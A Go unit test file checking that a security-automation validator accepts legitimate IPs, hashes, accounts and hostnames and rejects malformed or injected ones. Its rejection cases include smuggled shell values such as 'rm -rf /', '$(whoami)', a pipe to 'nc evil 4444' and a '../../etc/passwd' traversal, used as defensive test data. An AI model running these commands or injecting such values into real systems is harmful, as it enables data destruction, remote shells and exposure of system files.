package soar

import (
	"testing"

	"guardian/core"

	"github.com/stretchr/testify/assert"
)

func TestValidateTarget_Valid(t *testing.T) {
	tests := []struct {
		kind   core.EnforcementKind
		target string
	}{
		{core.EnforcementIP, "185.220.101.47"},
		{core.EnforcementIP, "2001:db8::1"},
		{core.EnforcementHash, "44d88612fea8a8f36de82e1278abb02f"},
		{core.EnforcementHash, "3395856CE81F2B7382DEE72602F798B642F14140"},
		{core.EnforcementHash, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
		{core.EnforcementAccount, "root"},
		{core.EnforcementAccount, "jane.doe@example.com"},
		{core.EnforcementHost, "web-01"},
		{core.EnforcementHost, "db01.corp.example.com"},
	}
	for _, tt := range tests {
		t.Run(string(tt.kind)+"/"+tt.target, func(t *testing.T) {
			assert.NoError(t, ValidateTarget(tt.kind, tt.target))
		})
	}
}

func TestValidateTarget_Rejects(t *testing.T) {
	tests := []struct {
		name   string
		kind   core.EnforcementKind
		target string
	}{
		{"empty", core.EnforcementIP, ""},
		{"not an ip", core.EnforcementIP, "999.1.1.1"},
		{"command separator", core.EnforcementIP, "1.2.3.4;rm -rf /"},
		{"substitution", core.EnforcementAccount, "$(whoami)"},
		{"backticks", core.EnforcementHost, "`id`"},
		{"pipe", core.EnforcementHost, "web-01|nc evil 4444"},
		{"newline", core.EnforcementAccount, "root\nadmin"},
		{"short hash", core.EnforcementHash, "abc123"},
		{"non hex hash", core.EnforcementHash, "zzd88612fea8a8f36de82e1278abb02f"},
		{"path traversal host", core.EnforcementHost, "../../etc/passwd"},
		{"leading dash account", core.EnforcementAccount, "-rf"},
		{"unknown kind", core.EnforcementKind("printer"), "hp-1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Error(t, ValidateTarget(tt.kind, tt.target))
		})
	}
}
